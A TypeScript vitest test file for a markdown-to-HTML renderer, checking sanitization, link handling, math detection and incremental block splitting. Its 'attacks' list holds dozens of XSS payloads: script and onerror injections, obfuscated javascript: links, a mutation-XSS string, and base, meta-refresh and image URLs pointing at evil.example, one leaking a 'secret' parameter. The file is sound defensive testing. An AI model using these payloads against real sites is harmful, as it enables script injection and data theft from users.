import { describe, expect, it } from 'vitest';
import { BlockSplitter, splitBlocks, toHtml } from '../src/text/markdown';

const parse = (html: string) => new DOMParser().parseFromString(html, 'text/html').body;

const attacks = [
  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', '<iframe src="javascript:alert(1)"></iframe>', '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))', '[x](JaVaScRiPt:alert(1))', '[x](java&#115;cript:alert(1))', '[x](&#x6A;avascript:alert(1))', '[x](data:text/html;base64,PHNjcmlwdD4=)', '[x](vbscript:msgbox(1))',
  '[x](<javascript:alert(1)>)', '![x](javascript:alert(1))', '![x](x"onerror="alert(1))', '![x](https://evil.example/?q=secret)', '<javascript:alert(1)>', '[x]: javascript:alert(1)\n\n[x]',
  '[x](https://a.example "onmouseover=alert(1) x=\\"")', '```"><img src=x onerror=alert(1)>\ncode\n```', '```js" onload="alert(1)\ncode\n```', '`<img src=x onerror=alert(1)>`',
  '<style>*{display:none}</style>', '<form action=//evil.example><input name=a></form>', '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '$<img src=x onerror=alert(1)>$', '$$\n</div><script>alert(1)</script>\n$$', '| a |\n|---|\n| <img src=x onerror=alert(1)> |', '<a href="https://x" onclick="alert(1)">x</a>', '<p style="position:fixed;inset:0">x</p>',
  '<base href="https://evil.example/">', '<meta http-equiv=refresh content="0;url=https://evil.example">', '<!--><img src=x onerror=alert(1)>-->', '&lt;script&gt;alert(1)&lt;/script&gt;',
];

describe('toHtml', () => {
  it.each(attacks)('lets nothing run or load: %s', (source) => {
    const body = parse(toHtml(source));
    expect(body.querySelector('script, img, svg, iframe, style, form, input, object, embed, base, meta, link, math, video, audio')).toBeNull();
    for (const element of body.querySelectorAll('*'))
      for (const { name, value } of element.attributes) {
        expect(name.startsWith('on') || name === 'style' || name === 'src' || name === 'srcset' || name === 'formaction', `${name}=${value}`).toBe(false);
        if (name === 'href') expect(value).toMatch(/^(https?:|mailto:|#)/);
      }
  });

  it('opens links elsewhere, without a way back', () => {
    const link = parse(toHtml('[x](https://example.org/a?b=1)')).querySelector('a')!;
    expect([link.getAttribute('href'), link.target, link.rel]).toEqual(['https://example.org/a?b=1', '_blank', 'noopener noreferrer nofollow']);
  });

  it('shows an image as a link, so that nothing is fetched', () => {
    expect(parse(toHtml('![the map](https://example.org/m.png)')).querySelector('a')!.textContent).toBe('the map');
  });

  it('keeps what the page needs: language, copy button, direction, math', () => {
    const body = parse(toHtml('```csharp\nint x;\n```\n\nשלום\n\n$$\na+b\n$$\n\nand $c$'));
    expect(body.querySelector('code')!.dataset.language).toBe('csharp');
    expect(body.querySelector('button')!.dataset.copy).toBe('code');
    expect(body.querySelector('p')!.dir).toBe('auto');
    expect([...body.querySelectorAll<HTMLElement>('.math')].map((m) => [m.textContent, m.dataset.display])).toEqual([['a+b', 'true'], ['c', 'false']]);
  });

  it.each([
    ['\\(a_b\\) and \\[c\\]', ['a_b', 'c']],
    ['$a_1 * b_2 * c$', ['a_1 * b_2 * c']],
    ['It costs $5 and $10.', []],
    ['a $ b $ c', []],
    ['`$x$`', []],
    ['\\$x$', []],
    ['$$x$$', ['x']],
    ['$\\text{\\$}$', ['\\text{\\$}']],
    ['- item\n\n  $$\n  y\n  $$', ['y']],
    ['$$ unfinished', []],
    ['$x', []],
  ])('finds math in %s', (source, wanted) => {
    expect([...parse(toHtml(source)).querySelectorAll('.math')].map((m) => m.textContent)).toEqual(wanted);
  });
});

const text = '# Title\n\nA paragraph\nin two lines.\n\n- one\n- two\n\n  still two\n- three\n\n```py\nx = 1\n\ny = 2\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n> quote\n> more\n\n$$\nz\n$$\n\nEnd.';

describe('splitBlocks', () => {
  it('cuts between top-level blocks and loses nothing', () => {
    const blocks = splitBlocks(text);
    expect(blocks).toHaveLength(8);
    expect(blocks.join('\n')).toBe(text);
    expect(blocks.map(toHtml).join('').replace(/\s+/g, '')).toBe(toHtml(text).replace(/\s+/g, ''));
  });

  it('keeps a text with link definitions whole', () => {
    expect(splitBlocks('See [a].\n\n[a]: https://example.org')).toHaveLength(1);
  });

  it('keeps nothing of an empty text', () => {
    expect(splitBlocks('  \n')).toEqual([]);
  });
});

describe('BlockSplitter', () => {
  it('ends, however the text grew, where the whole text would', () => {
    for (const step of [1, 3, 7]) {
      const splitter = new BlockSplitter();
      for (let end = step; end < text.length; end += step) splitter.split(text.slice(0, end));
      expect(splitter.split(text)).toEqual(splitBlocks(text));
    }
  });

  it('begins anew with a text that is not the old one grown', () => {
    const splitter = new BlockSplitter();
    splitter.split(text);
    expect(splitter.split('other')).toEqual(['other']);
  });

  it('leaves finished blocks the same strings, so that they are not drawn again', () => {
    const splitter = new BlockSplitter();
    const before = splitter.split(text);
    const after = splitter.split(`${text}\n\nOne more.`);
    expect(after.slice(0, before.length - 2)).toEqual(before.slice(0, -2));
  });
});
